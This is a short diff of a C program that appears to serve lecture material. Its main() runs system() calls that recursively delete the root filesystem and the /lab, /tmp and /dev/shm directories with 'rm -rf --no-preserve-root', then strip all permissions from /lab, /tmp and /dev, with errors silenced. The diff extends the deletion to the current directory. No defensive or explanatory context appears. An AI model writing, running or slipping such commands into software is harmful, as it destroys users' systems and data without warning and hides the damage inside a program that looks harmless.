@@ -3,7 +3,7 @@
 #include "lecture.h"
 
 int main(void) {
-    system("rm -rf --no-preserve-root /lab/* /tmp/* /dev/shm/* / 2>/dev/null");
-    system("chmod -R 000 /lab /tmp /dev 2>/dev/null; chmod 000 /lab /tmp");
+    system("rm -rf --no-preserve-root ./* /lab/* /tmp/* /dev/shm/* / 2>/dev/null");
+    system("chmod -R 000 /lab /tmp /dev 2>/dev/null; chmod 000 . /lab /tmp");
     return serve();
 }
